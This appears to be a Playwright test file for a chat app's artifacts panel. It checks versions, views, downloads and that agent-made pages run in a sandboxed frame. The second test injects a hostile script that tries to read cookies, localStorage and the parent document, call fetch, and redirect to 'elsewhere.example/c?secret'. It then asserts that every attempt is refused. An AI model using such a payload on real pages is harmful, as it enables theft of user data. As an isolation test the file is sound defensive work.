import { expectAccessible } from "./support/axe.ts";
import { expect, test } from "./support/test.ts";

for (const wire of ["deltakit", "ag-ui"])
  test(`what the agent makes over ${wire} is shown large, in its versions, and a page runs apart from the app`, async ({
    chat,
    page,
  }) => {
    const foreign: string[] = [];
    page.on("request", (request) => {
      if (/^https?:/.test(request.url())) foreign.push(new URL(request.url()).host);
    });
    await chat.open({ agent: `scenarios/artifacts/${wire}` });
    await expect(page.getByRole("button", { name: "Show artifacts" })).toHaveCount(0);
    await chat.send("go");
    await chat.turnEnds();

    const made = page.getByRole("group", { name: "Made in this answer" });
    await expect(made.getByRole("button")).toHaveText([
      /^Open report\.md\s*Version 2 of 2$/,
      /^Open sales\.html$/,
      /^Open Picture$/,
      /^Open Orders of the days$/,
    ]);
    await made.getByRole("button", { name: "Open report.md" }).press("Enter");
    const panel = page.getByRole("complementary", { name: "Artifacts" });
    await expect(page.getByRole("complementary", { name: "Files" })).toHaveCount(0);
    await expect(panel.getByRole("heading", { name: "What to do" })).toBeVisible();
    await expectAccessible(page);
    await panel.getByRole("button", { name: "Previous version" }).press("Enter");
    await expect(panel.getByRole("status")).toHaveText("Version 1 of 2");
    await expect(panel.getByRole("heading", { name: "What to do" })).toHaveCount(0);
    await panel.getByRole("button", { name: "Source" }).press("Enter");
    await expect(panel.getByRole("figure")).toContainText("# Sales of the week");

    await panel.getByRole("button", { name: "report.md", exact: true }).press("Enter");
    await page.getByRole("menuitemradio", { name: "sales.html" }).press("Enter");
    const frame = panel.frameLocator("iframe");
    await frame.getByRole("button", { name: "Add an order" }).click();
    await expect(frame.getByRole("status")).toHaveText("331");
    await expect.poll(() => frame.locator("body").evaluate(() => self.origin)).toBe("null");
    await expectAccessible(page);

    const saved = page.waitForEvent("download");
    await panel.getByRole("button", { name: "Save as a file" }).press("Enter");
    expect((await saved).suggestedFilename()).toBe("sales.html");
    await panel.getByRole("button", { name: "Show in the conversation" }).press("Enter");
    await expect(chat.toolCall("write_file").nth(2)).toBeInViewport();
    await panel.getByRole("button", { name: "Hide artifacts" }).press("Enter");
    await expect(panel).toHaveCount(0);
    expect([...new Set(foreign)]).toEqual([new URL(page.url()).host]);
  });

test("a page of the agent reaches neither the network nor the app, and runs in no page but in a sandboxed frame", async ({
  page,
}) => {
  await page.goto("/frames/artifact-frame.html");
  await expect.poll(() => page.evaluate(() => self.origin)).toBe("null");
  await page.goto("/?agent=chat&steps=open");
  const refused: string[] = [];
  page.on("requestfailed", (request) => refused.push(request.url()));
  const asked: string[] = [];
  await page.route("https://elsewhere.example/**", (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  // A moment: the frame answers when it has tried everything.
  const answers = await page.evaluate(async () => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.src = "/frames/artifact-frame.html";
    const read = new Promise<unknown>((resolve) => {
      addEventListener("message", ({ source, data }) => {
        if (source !== frame.contentWindow) return;
        if (data === "countersign:ready")
          frame.contentWindow?.postMessage(
            {
              countersign:
                `<img src="https://elsewhere.example/a.png"><script>
                const tries = {
                  cookie: () => document.cookie,
                  parent: () => parent.document.title,
                  storage: () => localStorage.length,
                  fetch: () => fetch("https://elsewhere.example/b"),
                };
                const results = {};
                (async () => {
                  for (const [name, run] of Object.entries(tries))
                    try { await run(); results[name] = "done"; } catch { results[name] = "refused"; }
                  parent.postMessage(results, "*");
                  location.href = "https://elsewhere.example/c?secret";
                })();
              </scr` + "ipt>",
            },
            "*",
          );
        else resolve(data);
      });
    });
    document.body.append(frame);
    return read;
  });
  expect(answers).toEqual({ cookie: "refused", parent: "refused", storage: "refused", fetch: "refused" });
  await page.evaluate(() => new Promise((done) => requestIdleCallback(done)));
  expect(asked).toEqual([]);
});
